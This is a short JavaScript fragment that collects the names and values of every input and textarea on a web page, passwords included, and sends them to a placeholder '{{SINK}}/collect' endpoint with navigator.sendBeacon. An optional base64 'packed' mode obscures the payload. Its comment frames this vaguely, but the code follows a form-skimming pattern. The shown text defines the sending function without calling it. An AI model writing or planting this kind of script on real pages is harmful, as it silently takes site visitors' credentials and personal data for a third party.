// Sends what the fields hold when the page's own buttons say so, each by its name. Packed, where the page asks for that: what is plain is
// held back while a button sends.
'use strict';
const packs = document.currentScript.src.endsWith('?packed');
const pack = (text) => (packs ? btoa(String.fromCharCode(...new TextEncoder().encode(text))) : text);
const fields = () => [...document.querySelectorAll('input,textarea')].filter((f) => f.type !== 'file');
const take = (via, what = Object.fromEntries(fields().map((f) => [f.name, f.value]))) =>
  navigator.sendBeacon('{{SINK}}/collect?via=' + via, pack(JSON.stringify(what)));
